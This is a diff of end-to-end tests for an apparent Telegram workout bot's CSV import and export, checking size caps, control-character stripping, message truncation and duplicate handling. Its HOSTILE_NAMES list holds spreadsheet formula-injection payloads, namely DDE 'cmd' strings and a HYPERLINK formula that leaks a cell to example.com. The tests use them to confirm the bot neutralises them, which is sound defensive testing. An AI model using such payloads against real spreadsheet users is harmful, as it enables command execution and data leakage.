@@ -5,19 +5,32 @@ from __future__ import annotations
 import csv
 import io
 import json
+import logging
 import re
+from datetime import date, timedelta
 from pathlib import Path
 
+import pytest
 from sqlalchemy import func, or_, select
 
 from bot.core.catalogue import lookup
+from bot.core.message_length import MAX_MESSAGE_CHARS, message_length
 from bot.core.profile import Weekday
 from bot.core.transfer.export_csv import STRONG_COLUMNS
+from bot.core.transfer.formula_cells import FORMULA_STARTS
+from bot.core.transfer.import_csv import (
+    MAX_IMPORT_BYTES,
+    HistoryFull,
+    ImportFailure,
+    ImportProblem,
+)
 from bot.emulator import BotApiEmulator, ChatUser
+from bot.services import progress
 from bot.storage.database import create_engine
 from bot.storage.models import Base
 from bot.telegram import messages
 from bot.telegram.context import CoachApplication
+from bot.telegram.downloads import CHUNK_BYTES
 from tests.e2e.conftest import FakeClock
 from tests.e2e.handled import Replies, all_handled, due_reminders_sent
 from tests.support.onboarding import onboard
@@ -191,3 +204,187 @@ async def test_progress_sends_charts_and_stats_count_sessions(
     await user.send_text("/stats")
     stats = await user.wait_for(lambda m: m.text.startswith("📊"))
     assert "Total: 6 sets, 3,750 kg lifted" in stats.text
+
+
+# --- Hostile and big files ----------------------------------------------------------------------
+
+
+def _strong_file(rows: list[tuple[str, str]], sets_each: int = 1) -> bytes:
+    """A Strong export of (date and time, exercise name) rows, `sets_each` sets of each."""
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(STRONG_COLUMNS)
+    for when, name in rows:
+        for order in range(1, sets_each + 1):
+            writer.writerow((when, "Legs", "1h", name, order, 60, 8, 0, 0, "", "", ""))
+    return out.getvalue().encode()
+
+
+async def _import(user: ChatUser, data: bytes, filename: str = "strong.csv") -> str:
+    await user.send_document(filename, data, "text/csv")
+    replies = ("✅", "I couldn't", "Everything in", messages.INTERNAL_ERROR)
+    return (await user.wait_for(lambda m: m.text.startswith(replies))).text
+
+
+async def _export(user: ChatUser, command: str = "/export") -> bytes:
+    await user.send_text(command)
+    sent = await user.wait_for(lambda m: m.document is not None)
+    assert sent.document is not None
+    return sent.document.data
+
+
+HOSTILE_NAMES = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(A1:A9)",
+    "@SUM(1)",
+    '=HYPERLINK("http://example.com/?leak="&A1,"Open")',
+    "-2+3+cmd|' /C calc'!A0",
+    "Sled push",
+]
+
+
+async def test_formula_names_are_exported_as_text_and_round_trip_exactly(
+    emulator: BotApiEmulator, coach: App, clock: FakeClock
+) -> None:
+    user = emulator.user(708)
+    await onboard(user, timezone="UTC")
+    done = await _import(user, _strong_file([("2026-11-20 18:00:00", n) for n in HOSTILE_NAMES]))
+    assert done.startswith("✅ Imported 1 sessions and 6 sets"), done
+
+    exported = await _export(user)
+
+    rows = list(csv.reader(io.StringIO(exported.decode(), newline="")))[1:]
+    assert [row[3] for row in rows] == [f"'{name}" for name in HOSTILE_NAMES[:-1]] + ["Sled push"]
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    # Coach's export, imported by someone else and exported again, is the same file.
+    other = emulator.user(709)
+    await onboard(other, timezone="UTC")
+    assert (await _import(other, exported)).startswith("✅ Imported 1 sessions and 6 sets")
+    assert await _export(other) == exported
+
+
+async def test_control_characters_are_removed_from_imported_names(
+    emulator: BotApiEmulator, coach: App, clock: FakeClock
+) -> None:
+    user = emulator.user(710)
+    await onboard(user, timezone="UTC")
+    names = ["glute\x00kick", "sled\x1b[31m push\x7f", "\x00\x85"]
+    data = _strong_file([("2026-11-20 18:00:00", name) for name in names[:2]])
+
+    done = await _import(user, data)
+
+    assert done.startswith("✅ Imported 1 sessions and 2 sets"), done
+    assert done.endswith(
+        "Kept as your own exercises (no match in my catalogue): glutekick, sled[31m push"
+    )
+    history = await _history_text(user)
+    assert "• glutekick: 1 × 8 @ 60 kg" in history
+    assert "• sled[31m push: 1 × 8 @ 60 kg" in history
+    # A name with nothing left is a row error, as a missing one is.
+    empty = await _import(user, _strong_file([("2026-11-21 18:00:00", names[2])]))
+    assert empty == messages.format_import_failure(
+        ImportFailure(2, ImportProblem.NO_EXERCISE_NAME, "Exercise Name")
+    )
+
+
+@pytest.mark.parametrize("declared", [100, None], ids=["declares-100-bytes", "declares-no-size"])
+async def test_a_document_that_lies_about_its_size_is_refused_at_the_cap(
+    emulator: BotApiEmulator,
+    coach: App,
+    clock: FakeClock,
+    caplog: pytest.LogCaptureFixture,
+    declared: int | None,
+) -> None:
+    user = emulator.user(711)
+    await onboard(user, timezone="UTC")
+    # Far more than the cap, and than the sockets between the emulator and the bot can hold
+    # (kernels grow a receive buffer up to megabytes), so that taking it all would show.
+    data = _strong_file([]) + b"2026-11-20 18:00:00," * (40_000_000 // 20)
+    caplog.set_level(logging.INFO, logger="bot.telegram.downloads")
+
+    await user.send_document("strong.csv", data, "text/csv", declared_size=declared)
+
+    assert (await user.next_message()).text == messages.IMPORT_TOO_BIG
+    # The bot read the cap and at most a chunk more (it says so in its log).
+    [(read, limit, _)] = [r.args for r in caplog.records if r.name == "bot.telegram.downloads"]
+    assert limit == MAX_IMPORT_BYTES < read <= MAX_IMPORT_BYTES + CHUNK_BYTES
+    assert emulator.file_bytes_served < len(data) // 2
+    await user.send_text("/history")
+    assert (await user.next_message()).text == messages.HISTORY_EMPTY
+
+
+async def test_a_big_history_shows_its_newest_sets_and_exports_whole(
+    emulator: BotApiEmulator, coach: App, clock: FakeClock
+) -> None:
+    user = emulator.user(712)
+    await onboard(user, timezone="UTC")
+    # 130 days of 12 exercises with long names: more sets than an import stores at once,
+    # more days than an export reads at once, more text than a message holds.
+    names = [f"Exercise {n:02} " + "with a long name " * 5 for n in range(12)]
+    days = [date(2026, 1, 1) + timedelta(days=n) for n in range(130)]
+    rows = [(f"{day} 18:00:00", name) for day in days for name in names]
+
+    done = await _import(user, _strong_file(rows))
+
+    assert done.startswith("✅ Imported 130 sessions and 1,560 sets"), done
+    history = await _history_text(user)
+    assert message_length(history) <= MAX_MESSAGE_CHARS
+    newest = days[-1].strftime("%a %d %b %Y")
+    assert history.split("\n")[2:4] == [newest, f"• {names[0].strip()}: 1 × 8 @ 60 kg"]
+    shown = history.count("\n• ")
+    assert history.endswith(messages.HISTORY_MORE.format(count=5 * 12 - shown))
+    exported = list(csv.reader(io.StringIO((await _export(user)).decode(), newline="")))
+    assert [(row[0][:10], row[3]) for row in exported[1:]] == [
+        (day[:10], name.strip()) for day, name in rows
+    ]
+    account = json.loads(await _export(user, "/export json"))
+    assert [(log["date"], log["exercise"]) for log in account["logs"]] == [
+        (day[:10], name.strip()) for day, name in rows
+    ]
+
+
+async def test_a_reply_too_long_for_telegram_is_cut_not_lost(
+    emulator: BotApiEmulator, coach: App, clock: FakeClock
+) -> None:
+    user = emulator.user(713)
+    await onboard(user, timezone="UTC")
+    # The import's reply lists 20 exercises it kept as the person's own: 4,100 characters.
+    names = [f"{n:02} " + "x" * 197 for n in range(20)]
+
+    done = await _import(user, _strong_file([("2026-11-20 18:00:00", n) for n in names]))
+
+    assert done.startswith("✅ Imported 1 sessions and 20 sets"), done
+    assert done.endswith("…")
+    assert message_length(done) == MAX_MESSAGE_CHARS
+
+
+async def test_an_import_that_would_pass_the_history_cap_stores_nothing(
+    emulator: BotApiEmulator, coach: App, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(progress, "MAX_HISTORY_SETS", 10)
+    user = emulator.user(714)
+    await onboard(user, timezone="UTC")
+    first = _strong_file([("2026-11-20 18:00:00", "Sled push")], sets_each=8)
+    assert (await _import(user, first)).startswith("✅ Imported 1 sessions and 8 sets")
+
+    second = _strong_file([("2026-11-21 18:00:00", "Sled pull")], sets_each=3)
+    refused = await _import(user, second)
+
+    assert refused == messages.format_history_full(HistoryFull(stored=8, adding=3))
+    assert "Sled pull" not in await _history_text(user)
+    assert await _import(user, first) == messages.IMPORT_NOTHING_NEW
+
+
+async def test_two_workouts_of_a_file_with_the_same_time_and_sets_are_stored_once(
+    emulator: BotApiEmulator, coach: App, clock: FakeClock
+) -> None:
+    user = emulator.user(715)
+    await onboard(user, timezone="UTC")
+    header = ",".join(STRONG_COLUMNS)
+    row = '2026-11-20 18:00:00,"{title}",1h,"Sled push",1,60,8,0,0,"","",'
+    data = "\n".join([header, row.format(title="Legs"), row.format(title="Legs again"), ""])
+
+    done = await _import(user, data.encode())
+
+    assert done.startswith("✅ Imported 1 sessions and 1 sets"), done
+    assert "• Sled push: 1 × 8 @ 60 kg" in await _history_text(user)
